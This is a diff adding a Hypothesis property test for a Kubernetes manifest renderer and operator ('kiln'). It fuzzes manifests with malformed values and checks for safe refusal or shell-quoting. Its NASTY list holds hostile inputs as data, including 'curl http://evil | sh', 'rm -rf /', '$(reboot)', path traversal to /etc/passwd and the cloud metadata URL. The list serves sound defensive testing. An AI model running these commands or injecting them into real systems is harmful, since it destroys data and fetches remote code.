@@ -1,0 +1,199 @@
+"""Hostile and malformed manifests, generated: accepted and valid, or refused by field path.
+
+Each example takes a valid manifest and overwrites one to three fields with wrong types, huge
+numbers, unicode, shell-injection strings, ``..`` paths or URLs with credentials. It then goes
+through ``kiln render`` (in-process, its real entry point) and, when refused for its spec,
+through the operator's reconcile against the API emulator:
+
+- the CLI exits 0 or 2, never 1 (its last-resort handler) and never with a traceback;
+- accepted: every rendered object validates against its Kubernetes or CRD schema, and any
+  user string inside a shell script is there only shell-quoted;
+- refused: one line that starts with the field path, and the reconcile writes nothing at all.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import copy
+import io
+import json
+import shlex
+
+import kubernetes_validate
+import pytest
+import yaml
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from kiln.cli import main as kiln_main
+from kiln.controller.models import ModelResolver
+from kiln.controller.service import reconcile_service
+from kiln.demo.sandbox import Sandbox
+
+from ..conftest import ROOT
+from ..support import crd_schemas
+
+NS = "llm"
+BASE = yaml.safe_load((ROOT / "examples" / "mistral-7b-fp16.yaml").read_text())
+BASE["spec"]["autoscaling"] = {"mode": "builtin", "minReplicas": 1, "maxReplicas": 2}
+BASE["spec"]["engine"] = {"maxBatchSize": 64, "maxSeqLen": 8192}
+
+PATHS = [
+    "apiVersion", "kind", "metadata", "metadata.name", "metadata.namespace", "spec", "spec.model",
+    "spec.model.source", "spec.model.revision", "spec.model.credentials",
+    "spec.model.credentials.secretName", "spec.precision", "spec.kvCacheDtype", "spec.gpus",
+    "spec.gpu", "spec.gpu.type", "spec.gpu.perNode", "spec.gpu.resourceName", "spec.gpu.memoryGiB",
+    "spec.parallelism.tensor", "spec.parallelism.pipeline", "spec.runtime.server",
+    "spec.runtime.image", "spec.engine.maxBatchSize", "spec.engine.maxInputLen",
+    "spec.engine.maxSeqLen", "spec.engine.maxNumTokens", "spec.engine.tokensPerBlock",
+    "spec.engine.kvCacheFreeGpuMemFraction", "spec.engineCache.claimName", "spec.replicas",
+    "spec.autoscaling.mode", "spec.autoscaling.minReplicas", "spec.autoscaling.maxReplicas",
+    "spec.autoscaling.targetKVCacheUtilization", "spec.autoscaling.prometheusUrl",
+    "spec.unexpected", "spec.model.unexpected",
+]
+NASTY = [
+    "", " ", "$(reboot)", "`id`", "a; rm -rf /", "x && curl http://evil | sh", "'; DROP TABLE x; --",
+    "${HF_TOKEN}", "{{ .Values.secret }}", "../../etc/passwd", "..", "\u202eevil", "null", "~",
+    "hf://user:hunter2@huggingface.co/org/model", "s3://AKIAEXAMPLE:secret@bucket/key",
+    "pvc://models/../../etc", "pvc://models/./x", "pvc://Models/x", "file:///etc/passwd",
+    "http://169.254.169.254/latest/meta-data", "hf://org/model\nname", "hf://org/mo del",
+    "hf://org/model;id", "hf://" + "a" * 300, "hf://org", "s3://", "pvc://", "hf://../model",
+    "http://prometheus:9090", "http://user:pw@prometheus:9090", "nvcr.io/nvidia/x:1; id",
+    "-rf", "--help", "a" * 64, "A-Name", "name-", "x.y",
+]
+VALID = [
+    "hf://meta-llama/Llama-3.1-8B-Instruct", "pvc://models/llama/8b", "s3://my-bucket/models/x",
+    "fp8", "fp16", "int4-awq", "H100-80GB", "A100-80GB", "triton", "djl", "builtin", "keda", "hpa",
+    "main", "v1.0", "hf-token", "engine-cache", "nvidia.com/gpu",
+]
+value = st.one_of(
+    st.none(), st.booleans(), st.integers(min_value=-(2 ** 70), max_value=2 ** 70),
+    st.integers(min_value=0, max_value=16), st.floats(allow_nan=False, width=32),
+    st.text(max_size=80), st.sampled_from(NASTY), st.sampled_from(VALID),
+    st.lists(st.integers(), max_size=2), st.dictionaries(st.text(max_size=4), st.integers(), max_size=2),
+)
+# Values a real manifest might carry, so that a good share of the examples is accepted.
+PLAUSIBLE = {
+    "metadata.name": ["a", "x" * 63, "llama-3-1"], "metadata.namespace": ["default", "team-a"],
+    "spec.model.source": VALID[:3] + ["hf://Qwen/Qwen2.5-7B-Instruct", "s3://b.ucket/a/b/"],
+    "spec.model.revision": ["main", "v1.0", "0123abcd", "refs/pr/1"],
+    "spec.model.credentials": [{"secretName": "hf-token"}], "spec.gpus": [1, 2, 4, 8],
+    "spec.precision": ["fp8", "fp16", "bf16", "int4-awq", "int8-sq"], "spec.replicas": [0, 1, 3],
+    "spec.autoscaling.mode": ["builtin", "keda", "hpa"], "spec.autoscaling.maxReplicas": [2, 8, 100],
+    "spec.engine.maxBatchSize": [1, 8, 256], "spec.runtime.server": ["triton", "djl"],
+    "spec.autoscaling.prometheusUrl": ["http://prometheus.monitoring:9090"],
+    "spec.runtime.image": ["registry.example.com/kiln/runtime:1.0"],
+}
+plausible = st.sampled_from(sorted(PLAUSIBLE)).flatmap(
+    lambda path: st.tuples(st.just(path), st.sampled_from(PLAUSIBLE[path])))
+mutations = st.lists(st.one_of(st.tuples(st.sampled_from(PATHS), value), plausible), min_size=1, max_size=3)
+
+
+def _mutate(changes):
+    manifest = copy.deepcopy(BASE)
+    for path, new in changes:
+        *parents, leaf = path.split(".")
+        node = manifest
+        for key in parents:
+            if not isinstance(node.get(key), dict):
+                node[key] = {}
+            node = node[key]
+        node[leaf] = new
+    return manifest
+
+
+def _kiln(tmp_path, manifest):
+    path = tmp_path / "service.yaml"
+    path.write_text(yaml.safe_dump(manifest, allow_unicode=True, sort_keys=False))
+    out, err = io.StringIO(), io.StringIO()
+    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
+        code = kiln_main(["render", "-f", str(path), "-o", "json"])
+    return code, out.getvalue(), err.getvalue()
+
+
+def _strings(node):
+    if isinstance(node, str):
+        yield node
+    elif isinstance(node, dict):
+        for v in node.values():
+            yield from _strings(v)
+    elif isinstance(node, list):
+        for v in node:
+            yield from _strings(v)
+
+
+def _writes(sb):
+    return [entry for entry in sb.emulator.audit if entry[1] in ("create", "update", "patch", "delete")]
+
+
+@pytest.fixture
+async def sandbox():
+    async with Sandbox() as sb:
+        sb.add_namespace(NS)
+        yield sb
+
+
+FIELD_PREFIXES = ("apiVersion", "kind", "metadata", "spec", "manifest", "does not fit")
+seen = {"accepted": 0, "refused": 0, "reconciled": 0}
+
+
+@settings(max_examples=500, deadline=None, derandomize=True,
+          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@given(changes=mutations)
+async def test_every_manifest_is_accepted_and_valid_or_refused_by_field_with_nothing_created(
+        sandbox, tmp_path, changes):
+    manifest = _mutate(changes)
+    code, out, err = _kiln(tmp_path, manifest)
+    assert code in (0, 2), (changes, err)
+    assert "Traceback" not in err
+    if code == 0:
+        seen["accepted"] += 1
+        objects = json.loads(out)["items"]
+        user = {s for s in _strings(manifest["spec"]) if len(s) > 2}
+        for obj in objects:
+            if crd_schemas.has_schema(obj):
+                crd_schemas.validate(obj)
+            elif obj["kind"] != "LLMEngine":
+                kubernetes_validate.validate(obj, "1.33", strict=True)
+            for spec in _pod_specs(obj):
+                for container in spec.get("containers", []) + spec.get("initContainers", []):
+                    command = container.get("command") or []
+                    if command[-2:-1] == ["-c"]:
+                        for text in user:
+                            assert text not in command[-1] or shlex.quote(text) in command[-1], text
+        return
+    seen["refused"] += 1
+    [line] = err.strip().splitlines()
+    message = line.removeprefix("error: ")
+    assert message.startswith(FIELD_PREFIXES), (changes, message)
+    if not message.startswith(("spec", "does not fit")) or not isinstance(manifest.get("spec"), dict):
+        return  # the API server refuses a bad envelope before any operator sees it
+    seen["reconciled"] += 1
+    sb = sandbox
+    before = len(_writes(sb))
+    body = {"metadata": {"name": "svc", "namespace": NS, "uid": "u-1", "generation": 1},
+            "spec": manifest["spec"]}
+    outcome = await reconcile_service(body, sb.api, ModelResolver(allow_download=False),
+                                      "2026-01-01T00:00:00Z")
+    assert _writes(sb)[before:] == [], changes
+    stalled = [c for c in outcome.status["conditions"] if c["type"] == "Stalled"]
+    assert stalled and stalled[0]["status"] == "True", (changes, outcome.status)
+    # The same field named (YAML sorts mapping keys, so a quoted value may print differently).
+    assert stalled[0]["message"].split(":")[0] == message.split(":")[0], (stalled[0]["message"], message)
+
+
+def test_the_generated_manifests_cover_both_outcomes():
+    # Runs after the property test in file order: both branches were exercised.
+    if seen["accepted"] + seen["refused"] == 0:
+        pytest.skip("the property test did not run in this session")
+    assert seen["accepted"] >= 20 and seen["refused"] >= 200 and seen["reconciled"] >= 100, seen
+
+
+def _pod_specs(obj):
+    spec = obj.get("spec") or {}
+    if "template" in spec:
+        yield spec["template"]["spec"]
+    for key in ("leaderTemplate", "workerTemplate"):
+        template = (spec.get("leaderWorkerTemplate") or {}).get(key)
+        if template:
+            yield template["spec"]
